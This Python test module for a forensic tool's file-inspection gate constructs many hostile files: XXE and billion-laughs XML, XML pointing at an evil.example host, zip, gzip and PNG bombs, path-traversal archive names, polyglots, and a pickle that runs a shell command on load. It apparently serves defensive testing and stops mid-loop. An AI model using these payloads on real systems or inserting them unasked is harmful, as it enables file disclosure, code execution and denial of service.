"""Hostile files of every kind at the door: the verdict, its reason, and that looking at them changes nothing.

Each attack is a name, the bytes of a file, and what the door must say. All run in this process, where memory is measured;
those of `attacks` run once more through the confined process that `geoevidence inspect` uses, which must say the same.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import stat
import struct
import subprocess
import sys
import tarfile
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geoevidence.custody import inspect_path
from geoevidence.custody.inspection import InspectionResult, _in_child, _inspect_stream, child, inspect_source_file
from geoevidence.custody.inspection.documents import where_to
from geoevidence.custody.inspection.look import Source
from geoevidence.custody.inspection.readers import judge
from geoevidence.trust.notes import LogCheckpoint, NoteSignature, SignedNote, TlogProof
from geoevidence.types import Message
from tests.custody.test_inspection import archive, chunk, jpeg, png, tiff
from tests.trust import tree

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><kml>&i;</kml>"
)
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><gpx>&e;</gpx>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>'
INCLUDE = '<kml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></kml>'
VRT = '<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand><SimpleSource><SourceFilename relativeToVRT="0">{}</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>'
WMS = '<GDAL_WMS><Service name="WMS"><ServerUrl>http://evil.example/wms?</ServerUrl></Service></GDAL_WMS>'


# ---------------------------------------------------------------- makers of hostile files


def zipped(entries: list[tuple[str | bytes, bytes]], *, method: int = zipfile.ZIP_DEFLATED, **fields: int) -> bytes:
    """A zip whose names are written as they are, however bad."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        for number, (name, data) in enumerate(entries):
            info = zipfile.ZipInfo(f"{number:04d}")
            info.compress_type, info.external_attr = method, 0o644 << 16
            for field, value in fields.items():
                setattr(info, field, value)
            raw = name if isinstance(name, bytes) else name.encode("utf-8", "surrogatepass")
            info.filename = "x" * len(raw)
            target.writestr(info, data)
    made = bytearray(buffer.getvalue())
    names = [name if isinstance(name, bytes) else name.encode("utf-8", "surrogatepass") for name, _ in entries]
    for mark, at_name, at_length, at_flags in ((b"PK\x03\x04", 30, 26, 6), (b"PK\x01\x02", 46, 28, 8)):
        at = 0
        for raw in names:
            at = made.index(mark, at)
            length = int.from_bytes(made[at + at_length : at + at_length + 2], "little")
            assert length == len(raw)
            made[at + at_name : at + at_name + length] = raw
            flags = int.from_bytes(made[at + at_flags : at + at_flags + 2], "little") | 0x0800
            made[at + at_flags : at + at_flags + 2] = flags.to_bytes(2, "little")
            at += 4
    return bytes(made)


def patched(data: bytes, mark: bytes, offset: int, layout: str, value: int, *, nth: int = 0) -> bytes:
    """`data` with a number written at an offset from the nth mark."""
    at = -1
    for _ in range(nth + 1):
        at = data.index(mark, at + 1)
    changed = bytearray(data)
    struct.pack_into(layout, changed, at + offset, value)
    return bytes(changed)


def overlapping_zip() -> bytes:
    """Two entries of which the second lies inside the data of the first (the quoting of Fifield 2019, without DEFLATE)."""
    inner = archive({"b": bytes(1000)}, method=zipfile.ZIP_STORED)
    kernel = inner[: inner.index(b"PK\x01\x02")]
    outer = archive({"a": kernel}, method=zipfile.ZIP_STORED)
    central, end = outer.rindex(b"PK\x01\x02"), outer.rindex(b"PK\x05\x06")
    second = bytearray(inner[inner.index(b"PK\x01\x02") : inner.index(b"PK\x05\x06")])
    struct.pack_into("<I", second, 42, outer.index(kernel))
    directory = outer[central:end] + bytes(second)
    return outer[:central] + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(directory), central, 0)


def nested_zip(levels: int, data: bytes = b"x") -> bytes:
    for level in range(levels):
        data = archive({f"level{level}.zip" if level else "core.txt": data})
    return data


def local_name_differs() -> bytes:
    data = archive({"good.txt": b"a"})
    return data.replace(b"good.txt", b"evil.txt", 1)


def zip64_lies() -> bytes:
    """A ZIP64 end record that counts other entries than the short one."""
    data = archive({"a": b"a"})
    end = data.index(b"PK\x05\x06")
    _, _, _, _, _, size, offset, _ = struct.unpack("<IHHHHIIH", data[end:])
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 7, 7, size, offset)
    return data[:end] + end64 + struct.pack("<IIQI", 0x07064B50, 0, end, 1) + data[end:]


def zip64_of_many() -> bytes:
    """A directory that announces more entries than are read."""
    data = archive({"a": b"a"})
    end = data.index(b"PK\x05\x06")
    _, _, _, _, _, size, offset, _ = struct.unpack("<IHHHHIIH", data[end:])
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 10**9, 10**9, size, offset)
    short = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, size, offset, 0)
    return data[:end] + end64 + struct.pack("<IIQI", 0x07064B50, 0, end, 1) + short


def zip64_missing() -> bytes:
    return patched(archive({"a": b"a"}), b"PK\x05\x06", 16, "<I", 0xFFFFFFFF)


def gap_zip() -> bytes:
    """Bytes between the last entry and the directory."""
    data = archive({"a": b"a"})
    central, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    moved = bytearray(data[:central] + b"hidden!!" + data[central:])
    struct.pack_into("<I", moved, end + 8 + 16, central + 8)
    return bytes(moved)


def descriptor_lies() -> bytes:
    class NoSeek(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, block: bytes) -> int:  # type: ignore[override]
            self.data += bytes(block)
            return len(block)

    sink = NoSeek()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as target:  # type: ignore[arg-type]
        target.writestr("a", b"abc" * 100)
    data = bytes(sink.data)
    assert b"PK\x07\x08" in data
    return patched(data, b"PK\x07\x08", 12, "<I", 5)


def unicode_path_zip() -> bytes:
    """An Info-ZIP Unicode Path field that names another file than the header."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        info = zipfile.ZipInfo("good.txt")
        other = b"../evil.txt"
        info.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(b"good.txt")) + other
        target.writestr(info, b"a")
    return buffer.getvalue()


def tarred(
    name: str = "a.txt", *, kind: bytes = tarfile.REGTYPE, data: bytes = b"a", form: int = tarfile.USTAR_FORMAT, **more: object
) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form, encoding="utf-8", errors="surrogateescape") as target:
        for each in (name, *more.pop("names", ())):  # type: ignore[misc]
            info = tarfile.TarInfo(each)
            info.type, info.size = kind, len(data) if kind == tarfile.REGTYPE else 0
            for field, value in more.items():
                setattr(info, field, value)
            target.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def resummed(tar: bytes) -> bytes:
    """The checksum of a tar's first header made right again."""
    head = bytearray(tar[:512])
    head[148:156] = b"        "
    head[148:156] = b"%06o\x00 " % sum(head)
    return bytes(head) + tar[512:]


def tar_of_lying_size() -> bytes:
    data = bytearray(tarred(form=tarfile.PAX_FORMAT, pax_headers={"size": "999999"}))
    return bytes(data)


def tif(entries: list[tuple[int, int, int, int]], *, following: int = 0, tail: bytes = b"") -> bytes:
    """A classic TIFF with one directory of (tag, type, count, value)."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + body + struct.pack("<I", following) + tail


PLAIN = [(256, 4, 1, 4), (257, 4, 1, 3), (273, 4, 1, 8), (279, 4, 1, 12)]


def tiff_with(*more: tuple[int, int, int, int], without: tuple[int, ...] = ()) -> bytes:
    kept = [entry for entry in PLAIN if entry[0] not in without and entry[0] not in {each[0] for each in more}]
    return tif([*kept, *more], tail=bytes(64))


def tiff_deflated(content: bytes, *, width: int = 100, height: int = 100) -> bytes:
    packed = zlib.compress(content)
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 8), (273, 4, 1, 0), (279, 4, 1, len(packed))]
    at = 8 + 2 + 12 * len(entries) + 4
    return tif([entry if entry[0] != 273 else (273, 4, 1, at) for entry in entries], tail=packed)


def png_with(*chunks: bytes, width: int = 4, height: int = 3, pixels: bytes | None = None) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    data = zlib.compress(bytes(5 * 3) if pixels is None else pixels)
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def exif(
    main: dict[int, bytes] | None = None,
    sub: dict[int, bytes] | None = None,
    *,
    position: tuple[float, float] | None = None,
    preview: bytes = b"",
    next_directory: int | None = None,
    pointer: int | None = None,
) -> bytes:
    """An EXIF block: texts of the first directory and of the EXIF directory, a position (degrees), a preview picture."""

    def packed(fields: dict[int, tuple[int, int, bytes]], at: int, following: int) -> bytes:
        heap = at + 2 + 12 * len(fields) + 4
        body = data = b""
        for tag, (kind, count, value) in sorted(fields.items()):
            if len(value) <= 4:
                body += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")
            else:
                body += struct.pack("<HHII", tag, kind, count, heap + len(data))
                data += value
        return struct.pack("<H", len(fields)) + body + struct.pack("<I", following) + data

    def texts(fields: dict[int, bytes] | None) -> dict[int, tuple[int, int, bytes]]:
        return {tag: (2, len(value) + 1, value + b"\x00") for tag, value in (fields or {}).items()}

    def angle(value: float) -> bytes:
        seconds = round(abs(value) * 3600 * 1000)
        return struct.pack("<6I", seconds // 3_600_000, 1, seconds // 60_000 % 60, 1, seconds % 60_000, 1000)

    first = texts(main) | {0x8769: (4, 1, bytes(4))}
    gps = {}
    if position is not None:
        first[0x8825] = (4, 1, bytes(4))
        gps = {
            1: (2, 2, b"S\x00" if position[0] < 0 else b"N\x00"), 2: (5, 3, angle(position[0])),
            3: (2, 2, b"W\x00" if position[1] < 0 else b"E\x00"), 4: (5, 3, angle(position[1])),
        }  # fmt: skip
    sub_at = 8 + len(packed(first, 8, 0))
    gps_at = sub_at + len(packed(texts(sub), sub_at, 0))
    preview_at = gps_at + (len(packed(gps, gps_at, 0)) if gps else 0)
    first[0x8769] = (4, 1, struct.pack("<I", sub_at if pointer is None else pointer))
    if gps:
        first[0x8825] = (4, 1, struct.pack("<I", gps_at))
    following = preview_at if preview else 0
    block = packed(first, 8, following if next_directory is None else next_directory) + packed(texts(sub), sub_at, 0)
    block += packed(gps, gps_at, 0) if gps else b""
    if preview:
        data_at = preview_at + 2 + 24 + 4
        block += packed(
            {0x0201: (4, 1, struct.pack("<I", data_at)), 0x0202: (4, 1, struct.pack("<I", len(preview)))}, preview_at, 0
        )
        block += preview
    return b"II*\x00\x08\x00\x00\x00" + block


def photo(
    block: bytes | None = None, xmp: str | None = None, *, comment: bytes = b"", width: int = 400, height: int = 300
) -> bytes:
    """A JPEG by structure, with metadata segments."""
    parts = b""
    for payload, marker in (
        (None if block is None else b"Exif\x00\x00" + block, b"\xff\xe1"),
        (None if xmp is None else b"http://ns.adobe.com/xap/1.0/\x00" + xmp.encode(), b"\xff\xe1"),
        (comment or None, b"\xff\xfe"),
    ):
        if payload is not None:
            parts += marker + struct.pack(">H", len(payload) + 2) + payload
    return b"\xff\xd8" + parts + jpeg(width=width, height=height)[2:]


def xmp(**values: str) -> str:
    attributes = " ".join(f'{name.replace("__", ":")}="{value}"' for name, value in values.items())
    return f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description {attributes}/></rdf:RDF></x:xmpmeta>'


def npy(descr: str, *, shape: str = "(2,)", data: bytes = bytes(16)) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def stac(href: str, *, where: str = "assets") -> bytes:
    item = {"type": "Feature", "stac_version": "1.0.0", "id": "a", "geometry": None, "properties": {}, "links": [], "assets": {}}
    if where == "assets":
        item["assets"] = {"b1": {"href": href}}
    else:
        item["links"] = [{"rel": "root", "href": href}]
    return json.dumps(item).encode()


def workbook(cell: str, formula: str = "") -> bytes:
    sheet = f"<worksheet><sheetData><row><c>{f'<f>{formula}</f>' if formula else '<v>0</v>'}</c></row></sheetData></worksheet>"
    return archive(
        {"xl/sharedStrings.xml": f"<sst><si><t>{cell}</t></si></sst>".encode(), "xl/worksheets/sheet1.xml": sheet.encode()}
    )


class Runs:
    """Unpickling this runs a command; the command leaves a file behind."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("touch was-here",)


def gif(*, width: int = 10, tail: bytes = b"") -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, 10, 0, 0, 0)
        + b"\x2c"
        + bytes(4)
        + b"\x0a\x00\x0a\x00\x00\x02\x01\x00\x00\x3b"
        + tail
    )


def sqlite(pages: int = 2, *, on_disk: int = 2) -> bytes:
    head = b"SQLite format 3\x00" + struct.pack(">HBBBBBB", 512, 1, 1, 0, 64, 32, 32) + struct.pack(">II", 1, pages)
    head = head.ljust(68, b"\x00") + b"GPKG"
    return (head.ljust(92, b"\x00") + struct.pack(">II", 1, 1)).ljust(512 * on_disk, b"\x00")


CHECKPOINT = SignedNote(LogCheckpoint("o", 1, bytes(32)).to_text(), (NoteSignature("k", b"abcd", b"sig"),)).to_bytes()
PROOF = TlogProof(0, (), CHECKPOINT).to_bytes()
DSSE = {"payload": "e30=", "payloadType": "x", "signatures": [{"sig": "YQ=="}]}


# ---------------------------------------------------------------- the table


@dataclass(frozen=True)
class Attack:
    """name: of the attack; file: its name; data: its bytes; verdict, reason: what the door says."""

    name: str
    file: str
    data: bytes
    verdict: str
    reason: str


def attacks() -> list[Attack]:
    """All attacks that are one file."""
    rows: list[tuple[str, str, bytes, str, str]] = []
    add = lambda *row: rows.append(row)  # noqa: E731
    bad_names = {
        "parent": "../x", "parent within": "a/../../x", "absolute": "/etc/x", "drive": "C:/x", "backslash": "..\\x", "UNC": "\\\\host\\x",
        "percent": "%2e%2e/x", "percent slash": "a%2f..%2fx", "NUL": "a\x00.txt", "trailing dot": "a./x", "trailing space": "a /x",
        "reserved": "CON", "reserved with suffix": "aux.txt", "port": "COM1.jpg", "bidi": "a\u202egpj.exe", "control": "a\nb", "stream": "a:b",
        "zero width": "a\u200bb", "dot": "./x", "empty part": "a//b", "lone surrogate": "a\ud800",
    }  # fmt: skip
    for what, name in bad_names.items():
        add(f"zip name: {what}", "a.zip", zipped([(name, b"x")]), "reject", "archive_name")
        if what not in ("dot", "lone surrogate", "NUL"):
            add(f"tar name: {what}", "a.tar", tarred(name), "reject", "archive_name")
    for what, raw in {
        "overlong dots": b"\xc0\xae\xc0\xae/x",
        "overlong e0": b"\xe0\x80\xae\xe0\x80\xae/x",
        "no UTF-8": b"\xff\xfe",
    }.items():
        add(f"zip name: {what}", "a.zip", zipped([(raw, b"x")]), "reject", "archive_name")
        legacy = zipped([(raw, b"x")]).replace(b"\x00\x08\x08\x00", b"\x00\x00\x08\x00")
        if what != "no UTF-8":
            add(f"zip name, no flag: {what}", "a.zip", legacy, "reject", "archive_name")
    add(
        "tar name: overlong dots",
        "a.tar",
        tarred(b"\xc0\xae\xc0\xae/x".decode("utf-8", "surrogateescape")),
        "reject",
        "archive_name",
    )

    for what, mode, reason in (
        ("symlink", stat.S_IFLNK, "archive_link"), ("device", stat.S_IFCHR, "archive_special"), ("fifo", stat.S_IFIFO, "archive_special"),
    ):  # fmt: skip
        add(f"zip {what}", "a.zip", archive({"x": b"/etc"}, mode=mode | 0o777), "reject", reason)
    for what, kind, reason in (
        ("symlink", tarfile.SYMTYPE, "archive_link"), ("hard link", tarfile.LNKTYPE, "archive_link"), ("device", tarfile.CHRTYPE, "archive_special"),
        ("block device", tarfile.BLKTYPE, "archive_special"), ("fifo", tarfile.FIFOTYPE, "archive_special"), ("sparse", tarfile.GNUTYPE_SPARSE, "bad_archive"),
    ):  # fmt: skip
        add(f"tar {what}", "a.tar", tarred("x", kind=kind, linkname="/etc/passwd"), "reject", reason)

    add("zip bomb: ratio", "a.zip", archive({"x": bytes(30 << 20)}), "reject", "archive_bomb")
    add("zip bomb: nested", "a.zip", nested_zip(5), "reject", "archive_nested")
    inner = archive({"x": bytes(60 << 20)})
    add("zip bomb: inside a zip", "a.zip", archive({"b.zip": inner}, method=zipfile.ZIP_STORED), "reject", "archive_bomb")
    add("zip bomb: overlapping entries", "a.zip", overlapping_zip(), "reject", "archive_overlap")
    add(
        "zip: entry count without ZIP64",
        "a.zip",
        patched(patched(archive({"a": b""}), b"PK\x05\x06", 8, "<H", 65535), b"PK\x05\x06", 10, "<H", 65535),
        "reject",
        "bad_archive",
    )
    add("zip bomb: entry count", "a.zip", zip64_of_many(), "reject", "archive_entries")
    small = archive({"x": b"abc" * 200})
    add("zip: local size lies", "a.zip", patched(small, b"PK\x03\x04", 22, "<I", 5), "reject", "two_readings")
    add(
        "zip: both sizes lie",
        "a.zip",
        patched(patched(small, b"PK\x03\x04", 22, "<I", 5), b"PK\x01\x02", 24, "<I", 5),
        "reject",
        "inflates_more",
    )
    add(
        "zip: sizes too large",
        "a.zip",
        patched(patched(small, b"PK\x03\x04", 22, "<I", 900), b"PK\x01\x02", 24, "<I", 900),
        "reject",
        "archive_content",
    )
    add(
        "zip: CRC lies",
        "a.zip",
        patched(patched(small, b"PK\x03\x04", 14, "<I", 5), b"PK\x01\x02", 16, "<I", 5),
        "reject",
        "archive_content",
    )
    add("zip: descriptor lies", "a.zip", descriptor_lies(), "reject", "two_readings")
    add("zip: local name differs", "a.zip", local_name_differs(), "reject", "two_readings")
    add("zip: local method differs", "a.zip", patched(small, b"PK\x03\x04", 8, "<H", 0), "reject", "two_readings")
    add("zip: Unicode path differs", "a.zip", unicode_path_zip(), "reject", "two_readings")
    add("zip: entry twice", "a.zip", zipped([("a", b"1"), ("a", b"2")]), "reject", "archive_twice")
    add("zip: case collision", "a.zip", zipped([("a", b"1"), ("A", b"2")]), "reject", "archive_twice")
    add("zip: normal form collision", "a.zip", zipped([("\u00e9", b"1"), ("e\u0301", b"2")]), "reject", "archive_twice")
    add("zip: file and folder", "a.zip", zipped([("a", b"1"), ("a/b", b"2")]), "reject", "archive_twice")
    add("zip: zip64 lies", "a.zip", zip64_lies(), "reject", "two_readings")
    add("zip: zip64 missing", "a.zip", zip64_missing(), "reject", "bad_archive")
    add(
        "zip: directory count lies",
        "a.zip",
        patched(patched(small, b"PK\x05\x06", 8, "<H", 2), b"PK\x05\x06", 10, "<H", 2),
        "reject",
        "two_readings",
    )
    add("zip: bytes before the directory", "a.zip", gap_zip(), "flag", "archive_hidden")
    add("zip: bytes appended", "a.zip", small + b"hidden", "flag", "appended")
    add("zip: zip appended", "a.zip", small + archive({"other": b"y"}), "reject", "two_readings")
    add("zip: bytes prepended", "a.zip", b"PK\x03\x04junk" + small, "reject", "two_readings")
    add(
        "zip: encrypted",
        "a.zip",
        patched(patched(small, b"PK\x03\x04", 6, "<H", 1), b"PK\x01\x02", 8, "<H", 1),
        "flag",
        "archive_locked",
    )
    add(
        "zip: method unknown",
        "a.zip",
        patched(patched(small, b"PK\x03\x04", 8, "<H", 99), b"PK\x01\x02", 10, "<H", 99),
        "flag",
        "archive_unknown",
    )
    add(
        "zip: broken deflate",
        "a.zip",
        small.replace(zlib.compress(b"abc" * 200, 9)[2:6], b"\xff\xff\xff\xff", 1)
        if zlib.compress(b"abc" * 200, 9)[2:6] in small
        else patched(small, b"PK\x03\x04", 31, "<I", 0xFFFFFFFF),
        "reject",
        "undecodable",
    )
    add("zip: macro", "a.xlsx", archive({"xl/vbaProject.bin": b"x"}), "flag", "active_content")
    add("zip: KML with entities", "a.kmz", archive({"doc.kml": BILLION_LAUGHS.encode()}), "reject", "member")
    add("zip: photo in disguise", "a.zip", archive({"a.tif": WMS.encode()}), "reject", "member")
    add("7z", "a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(26), "flag", "archive_unknown")
    add("zip cut short", "a.zip", small[:-5], "reject", "bad_archive")

    add("tar: pax size lies", "a.tar", tar_of_lying_size(), "reject", "two_readings")
    add(
        "tar: pax path leads out",
        "a.tar",
        tarred("ok", form=tarfile.PAX_FORMAT, pax_headers={"path": "../../x"}),
        "reject",
        "archive_name",
    )
    add(
        "tar: global path",
        "a.tar",
        resummed(tarred("ok", data=b"13 path=../x\n")[:156] + b"g" + tarred("ok", data=b"13 path=../x\n")[157:]),
        "reject",
        "two_readings",
    )
    add("tar: entry twice", "a.tar", tarred("a", names=("a",)), "reject", "archive_twice")
    add("tar: case collision", "a.tar", tarred("a", names=("A",)), "reject", "archive_twice")
    add("tar: wrong sum", "a.tar", tarred()[:120] + b"7" + tarred()[121:], "reject", "checksum")
    add(
        "tar: base-256 size", "a.tar", resummed(tarred()[:124] + b"\x80" + b"\xff" * 11 + tarred()[136:]), "reject", "bad_archive"
    )
    add(
        "tar: size beyond the end", "a.tar", resummed(tarred()[:124] + b"77777777777\x00" + tarred()[136:]), "reject", "cut_short"
    )
    add("tar: bytes after the end", "a.tar", tarred() + b"hidden".ljust(512, b"\x00"), "flag", "appended")
    add("tar: cut short", "a.tar", tarred()[:512], "reject", "cut_short")
    add("tar in gzip: leads out", "a.tar.gz", gzip.compress(tarred("../x"), mtime=0), "reject", "member")
    add("gzip bomb", "a.gz", gzip.compress(bytes(30 << 20), mtime=0), "reject", "archive_bomb")
    add(
        "gzip of gzip of gzip of gzip",
        "a.gz",
        gzip.compress(gzip.compress(gzip.compress(gzip.compress(b"x")))),
        "reject",
        "archive_nested",
    )
    add("gzip: wrong checksum", "a.gz", gzip.compress(b"x", mtime=0)[:-8] + bytes(8), "reject", "checksum")
    add("gzip: cut short", "a.gz", gzip.compress(b"x" * 99, mtime=0)[:-9], "reject", "cut_short")
    add("gzip: bytes appended", "a.gz", gzip.compress(b"x", mtime=0) + b"hidden", "flag", "appended")
    add(
        "gzip: name leads out",
        "a.gz",
        b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03../x\x00" + gzip.compress(b"x", mtime=0)[10:],
        "reject",
        "archive_name",
    )

    add("JPEG + zip", "a.jpg", jpeg() + archive({"a": b"a"}), "reject", "polyglot")
    add("PNG + zip", "a.png", png() + archive({"a": b"a"}), "reject", "polyglot")
    add("PDF + zip", "a.pdf", b"%PDF-1.7\n%%EOF\n" + archive({"a": b"a"}), "reject", "polyglot")
    add("JPEG + PDF", "a.jpg", photo(comment=b"\n%PDF-1.7\n"), "reject", "polyglot")
    add("GIF + script", "a.gif", gif(width=0x2A2F, tail=b"*/=1;alert(1)"), "reject", "polyglot")
    add("GIF: bytes appended", "a.gif", gif(tail=b"hidden"), "flag", "appended")
    add("PDF acts on opening", "a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>endobj\n%%EOF\n", "flag", "active_content")
    add("JPEG in disguise", "a.jpg", b"#!/bin/sh\n", "reject", "disguised")
    add("PNG named JPEG", "a.jpg", png(), "flag", "other_kind")

    add("JPEG: dimensions", "a.jpg", jpeg(width=65535, height=65535), "reject", "dimensions")
    add("JPEG: more pixels than data", "a.jpg", jpeg(width=40000, height=40000), "reject", "pixel_bomb")
    add(
        "JPEG: no height, then DNL",
        "a.jpg",
        jpeg(height=0).replace(b"\xff\xd9", b"\xff\xdc\x00\x04\x10\x00\xff\xd9"),
        "reject",
        "dimensions",
    )
    add(
        "JPEG: DNL contradicts",
        "a.jpg",
        jpeg().replace(b"\xff\xd9", b"\xff\xdc\x00\x04\x10\x00\xff\xd9"),
        "reject",
        "two_readings",
    )
    add("JPEG: absurd sampling", "a.jpg", jpeg().replace(b"\x01\x11\x00", b"\x01\xf0\x00", 1), "reject", "bad_structure")
    add(
        "JPEG: two frames",
        "a.jpg",
        jpeg().replace(b"\xff\xc0", b"\xff\xc0" + jpeg()[jpeg().index(b"\xff\xc0") + 2 :][:11] + b"\xff\xc0", 1),
        "reject",
        "two_readings",
    )
    add("JPEG: bytes appended", "a.jpg", jpeg() + b"hidden", "flag", "appended")
    add("JPEG: appended behind a lying index", "a.jpg", jpeg(mpf=True) + b"hidden", "flag", "appended")
    add("JPEG: cut short", "a.jpg", jpeg()[:-2], "reject", "cut_short")
    add("JPEG: script in comment", "a.jpg", photo(comment=b"<script>x</script>"), "flag", "active_content")
    add("EXIF: next directory loops", "a.jpg", photo(exif(next_directory=8)), "reject", "loop")
    add("EXIF: pointer loops", "a.jpg", photo(exif(pointer=8)), "reject", "loop")
    add("EXIF: points outside", "a.jpg", photo(exif(pointer=1 << 30)), "flag", "exif_broken")
    add("EXIF: is no EXIF", "a.jpg", photo(b"garbage"), "flag", "exif_broken")
    add("EXIF stripped", "DJI_0001.JPG", photo(), "flag", "no_exif")
    there = {"drone-dji__GpsLatitude": "+30.500000", "drone-dji__GpsLongitude": "+114.250000"}
    add("GPS stripped", "a.jpg", photo(exif(), xmp(**there)), "flag", "gps_stripped")
    add("GPS moved by 100 m", "a.jpg", photo(exif(position=(30.5009, 114.25)), xmp(**there)), "flag", "gps_differs")
    add(
        "GPS moved, Adobe spelling",
        "a.jpg",
        photo(exif(position=(30.5, 114.25)), xmp(exif__GPSLatitude="30,31.0N", exif__GPSLongitude="114,15.0E")),
        "flag",
        "gps_differs",
    )
    add("edited: EXIF", "a.jpg", photo(exif({0x0131: b"Adobe Photoshop 25.0"})), "flag", "edited")
    add("edited: XMP", "a.jpg", photo(exif(), xmp(xmp__CreatorTool="GIMP 2.10")), "flag", "edited")
    add(
        "time changed",
        "a.jpg",
        photo(exif(sub={0x9003: b"2026:05:04 15:30:00"}), xmp(exif__DateTimeOriginal="2026-05-03T15:30:00")),
        "flag",
        "times_differ",
    )
    add("cropped", "a.jpg", photo(exif(preview=jpeg(width=160, height=40))), "flag", "preview_differs")
    add("XMP with entities", "a.jpg", photo(None, BILLION_LAUGHS), "reject", "xml_entities")

    add("PNG: dimensions", "a.png", png(width=1 << 30, height=1 << 30), "reject", "dimensions")
    add("PNG: more pixels than data", "a.png", png(width=40000, height=40000), "reject", "pixel_bomb")
    add("PNG: pixels overflow", "a.png", png_with(pixels=bytes(9 << 20)), "reject", "inflates_more")
    add("PNG: pixels missing", "a.png", png_with(pixels=bytes(3)), "reject", "undecodable")
    add(
        "PNG: zTXt bomb",
        "a.png",
        png_with(chunk(b"zTXt", b"k\x00\x00" + zlib.compress(bytes(20 << 20)))),
        "reject",
        "inflates_more",
    )
    add(
        "PNG: iCCP bomb",
        "a.png",
        png_with(chunk(b"iCCP", b"k\x00\x00" + zlib.compress(bytes(20 << 20)))),
        "reject",
        "inflates_more",
    )
    add(
        "PNG: iTXt bomb",
        "a.png",
        png_with(chunk(b"iTXt", b"k\x00\x01\x00\x00\x00" + zlib.compress(bytes(20 << 20)))),
        "reject",
        "inflates_more",
    )
    add(
        "PNG: XMP with entities",
        "a.png",
        png_with(chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + EXTERNAL.encode())),
        "reject",
        "xml_entities",
    )
    add("PNG: two headers", "a.png", png_with(chunk(b"IHDR", bytes(13))), "reject", "bad_structure")
    add("PNG: EXIF loops", "a.png", png_with(chunk(b"eXIf", exif(next_directory=8))), "reject", "loop")
    add("PNG: chunk longer than the file", "a.png", png()[:33] + struct.pack(">I", 1 << 31) + b"IDAT", "reject", "cut_short")

    add("TIFF: directory loops", "a.tif", tiff(loop=True), "reject", "loop")
    add("TIFF: subdirectory loops", "a.tif", tiff_with((330, 4, 1, 8)), "reject", "loop")
    add("TIFF: dimensions", "a.tif", tiff(width=1 << 20, height=1 << 20), "reject", "dimensions")
    add("TIFF: strip count lies", "a.tif", tiff_with((278, 4, 1, 1)), "reject", "bad_structure")
    add("TIFF: a billion strips", "a.tif", tiff_with((273, 4, 1 << 30, 8)), "reject", "cut_short")
    add("TIFF: strip outside", "a.tif", tiff_with((279, 4, 1, 1 << 30)), "reject", "cut_short")
    add("TIFF: no strips", "a.tif", tiff_with(without=(273, 279)), "reject", "no_picture")
    add("TIFF: tag twice", "a.tif", tif([*PLAIN, (256, 4, 1, 9)], tail=bytes(64)), "reject", "two_readings")
    add("TIFF: zero rows a strip", "a.tif", tiff_with((278, 4, 1, 0)), "reject", "bad_structure")
    add("TIFF: EXIF points outside", "a.tif", tiff_with((34665, 4, 1, 1 << 30)), "reject", "cut_short")
    add("TIFF: deflate bomb", "a.tif", tiff_deflated(bytes(20 << 20)), "reject", "inflates_more")
    add("TIFF: deflate too short", "a.tif", tiff_deflated(bytes(10)), "reject", "undecodable")
    block = EXTERNAL.encode()
    add(
        "TIFF: GDAL metadata with entities",
        "a.tif",
        tif([*PLAIN, (42112, 2, len(block), 74)], tail=block + bytes(64)),
        "reject",
        "xml_entities",
    )
    for what, target in (("up", b"../x.ovr"), ("network", b"/vsicurl/http://evil.example/x"), ("base", b":::BASE:::../x")):
        block = b'<GDALMetadata><Item name="OVERVIEW_FILE" domain="OVERVIEWS">' + target + b"</Item></GDALMetadata>"
        data = tif([*PLAIN, (42112, 2, len(block), 74)], tail=block + bytes(64))
